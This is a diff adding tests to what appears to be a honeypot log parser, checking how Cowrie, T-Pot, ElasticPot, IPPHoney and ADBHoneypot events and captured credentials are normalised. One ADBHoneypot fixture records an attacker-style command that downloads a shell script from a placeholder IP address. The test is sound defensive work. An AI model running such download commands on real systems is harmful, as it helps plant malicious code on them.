@@ -55,6 +55,37 @@ describe("Cowrie", () => {
     expect(await cowrie("login.failed", { ...line, protocol: "ssh" })).toMatchObject({ login_attempts: 1 });
   });
 
+  test("a request to the SSH port is a request, and no banner", async () => {
+    const said = await cowrie("client.version", { protocol: "ssh", version: "GET /x?y HTTP/1.1" });
+    expect(said).toMatchObject({ application: "ssh", http: { method: "GET", path: "/x", query: "y" } });
+    expect(said).not.toHaveProperty("ssh");
+    const tls = { protocol: "ssh", version: "\\x16\\x03\\x01\\x02\\x00\\x01" };
+    expect(await cowrie("client.version", tls)).not.toHaveProperty("ssh");
+    const published = { peerIP: IP, session: "s", protocol: "ssh", version: "GET / HTTP/1.1", credentials: [] };
+    expect(await hpfeeds("cowrie.sessions", published)).not.toHaveProperty("ssh");
+  });
+
+  test.each([
+    ["\\xd0\\xbf", "п"],
+    ["a\\\\b\\\\xd0", "a\\b\\xd0"],
+    ["x\\x07y", "x\u0007y"],
+    ["\\xff\\xfe", "\\xff\\xfe"],
+    ["привет\\xd0", "привет\\xd0"],
+  ])("%j, as version 3.1.4 writes it, is kept as %j was typed", async (written, typed) => {
+    const said = await cowrie("login.failed", { protocol: "ssh", username: written, password: written });
+    expect(said).toMatchObject({ credentials: [{ username: typed, password: typed }] });
+    const published = { peerIP: IP, session: "s", protocol: "ssh", credentials: [["root", written]], loggedin: null };
+    expect(await hpfeeds("cowrie.sessions", published)).toMatchObject({
+      credentials: [{ username: "root", password: typed }],
+    });
+  });
+
+  test("version 2, which names no protocol at a login, wrote what was typed", async () => {
+    expect(await cowrie("login.failed", { username: "root", password: "\\xd0\\xbf" })).toMatchObject({
+      credentials: [{ username: "root", password: "\\xd0\\xbf" }],
+    });
+  });
+
   test("a redirection leaves a file, and downloads none", async () => {
     const shasum = "cebf25e0668376ce72d60cc05894de697b174396e5036fdb525363c351bf1f9b";
     const said = await cowrie("session.file_download", { shasum, destfile: "/tmp/x" });
@@ -223,6 +254,27 @@ describe("T-Pot", () => {
       expect(said).toMatchObject({ credentials: [{ username: "root" }], login_attempts: 1 });
       expect(said).not.toHaveProperty("credentials.0.password");
     }
+  });
+});
+
+test("ElasticPot 2.0.3, IPPHoney 2.0.2 and ADBHoneypot 3.0.2 are read as they write", async () => {
+  const common = { src_ip: IP, dst_ip: "192.0.2.2", sensor: "pot-1", timestamp: "2026-11-20T07:06:32.632811+00:00Z" };
+  const observed = { observed_at: "2026-11-20T07:06:32.632811Z", sensor_id: "pot-1", source_ip: IP };
+  const web = { ...common, src_port: 46192, request: "GET", user_agent: "probe/1" };
+  expect(
+    await read({ ...web, eventid: "elasticpot.recon", message: "Scan", url: "/_cat/indices", dst_port: 9200 }),
+  ).toMatchObject({ ...observed, application: "elasticsearch", http: { path: "/_cat/indices" } });
+  expect(await read({ ...web, eventid: "ipphoney.connect", url: "/", dst_port: 631 })).toMatchObject({
+    ...observed,
+    application: "ipp",
+  });
+  const adb = { ...common, operation: "command", session: "58c8887d8abe", eventid: "adbhoneypot.command.input" };
+  expect(await read({ ...adb, input: "cd /data; wget http://192.0.2.9/x.sh" })).toMatchObject({
+    ...observed,
+    application: "adb",
+    session_id: "58c8887d8abe",
+    commands: ["cd /data; wget http://192.0.2.9/x.sh"],
+    labels: ["adbhoney:command.input"],
   });
 });
 
